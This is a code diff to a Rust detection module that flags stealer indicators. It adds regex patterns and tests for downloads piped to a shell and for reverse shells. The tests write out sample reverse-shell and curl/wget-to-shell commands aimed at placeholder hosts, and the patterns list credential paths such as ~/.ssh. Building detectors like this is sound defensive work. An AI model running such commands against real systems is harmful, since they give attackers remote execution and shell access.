@@ -1,6 +1,7 @@
 //! Indicators in string literals: where stolen data goes (Discord webhooks, Telegram bots,
 //! paste sites, raw IP URLs, URLs hidden with ROT13) and what stealers read (SSH keys, cloud
-//! credentials, browser profiles, wallet extensions).
+//! credentials, browser profiles, wallet extensions), and shell commands that run a download
+//! (`curl ... | sh`) or hand a shell to a socket (reverse shells).
 //!
 //! Patterns are matched against literal text only, so the same words in comments or
 //! documentation do not count.
@@ -16,6 +17,9 @@ pub enum Indicator {
     Endpoint { what: String, strong: bool },
     /// A path to secrets.
     Credential { what: String },
+    /// A shell command that runs what it downloads (`curl ... | sh`) or hands a shell to a
+    /// socket (`bash -i >& /dev/tcp/...`, `nc -e /bin/sh`).
+    Shell { what: String },
 }
 
 struct Patterns {
@@ -25,6 +29,7 @@ struct Patterns {
     raw_ip: Regex,
     rot13_url: Regex,
     credentials: Vec<(Regex, &'static str)>,
+    shells: Vec<(Regex, &'static str)>,
 }
 
 fn patterns() -> &'static Patterns {
@@ -39,6 +44,16 @@ fn patterns() -> &'static Patterns {
             ),
             raw_ip: r(r"(?i)\b(?:https?|ftp|wss?|tcp)://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b"),
             rot13_url: r(r"\buggcf?://[A-Za-z0-9./_-]*"),
+            shells: vec![
+                (
+                    r(r"(?i)\b(?:curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+)?(?:/\S*/)?(?:ba|z|da|k)?sh\b"),
+                    "a download piped to a shell",
+                ),
+                (
+                    r(r"(?i)\bsh\s+-i\b[^\n]*/dev/tcp/|/dev/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d+|\bnc(?:at)?\s+(?:-\S+\s+)*-e\s+/bin/(?:ba)?sh"),
+                    "a reverse shell",
+                ),
+            ],
             credentials: vec![
                 (r(r"(?:^|[~/\\])\.ssh(?:[/\\]|$)"), "SSH keys (~/.ssh)"),
                 (r(r"(?i)\.aws[/\\]credentials"), "AWS credentials (~/.aws/credentials)"),
@@ -110,6 +125,13 @@ pub fn find(text: &str) -> Vec<Indicator> {
             });
         }
     }
+    for (re, what) in &p.shells {
+        if re.is_match(text) {
+            out.push(Indicator::Shell {
+                what: (*what).to_owned(),
+            });
+        }
+    }
     out
 }
 
@@ -150,6 +172,17 @@ mod tests {
             matches!(&f[0], Indicator::Endpoint { what, .. } if what.contains("https://example.invalid"))
         );
         assert!(find("https://example.org/docs").is_empty());
+    }
+
+    #[test]
+    fn shells() {
+        let shell = |t: &str| find(t).iter().any(|i| matches!(i, Indicator::Shell { .. }));
+        assert!(shell("curl -fsSL https://example.invalid/i.sh | sh"));
+        assert!(shell("wget -qO- http://x.invalid/a | sudo bash"));
+        assert!(shell("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
+        assert!(shell("nc -e /bin/sh 203.0.113.9 4444"));
+        assert!(!shell("curl -O https://example.invalid/file.tar.gz"));
+        assert!(!shell("ls | grep sh"));
     }
 
     #[test]
